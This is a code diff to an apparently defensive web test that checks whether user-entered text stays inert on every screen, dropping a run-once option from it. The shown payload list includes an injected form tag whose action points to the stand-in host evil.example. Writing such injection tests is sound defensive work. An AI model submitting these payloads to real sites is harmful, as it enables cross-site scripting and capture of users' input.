@@ -1,5 +1,5 @@
 import { addBusiness, ask, CALL, DASHBOARD, rate, register, unique, WEB } from './api.ts'
-import { expect, ONCE, test } from './fixtures.ts'
+import { expect, test } from './fixtures.ts'
 
 /** Each would leave an element with this mark, or open a dialog, where text is taken for markup or for code. */
 const MARK = 'data-planted'
@@ -16,7 +16,7 @@ const PAYLOADS = [
   `<form ${MARK} action=//evil.example><input name=q>`,
 ]
 
-test('what people wrote is text on every screen that shows it', ONCE, async ({ page }) => {
+test('what people wrote is text on every screen that shows it', async ({ page }) => {
   const { request } = page
   const { email } = await register(request)
   const [first = '', ...others] = PAYLOADS
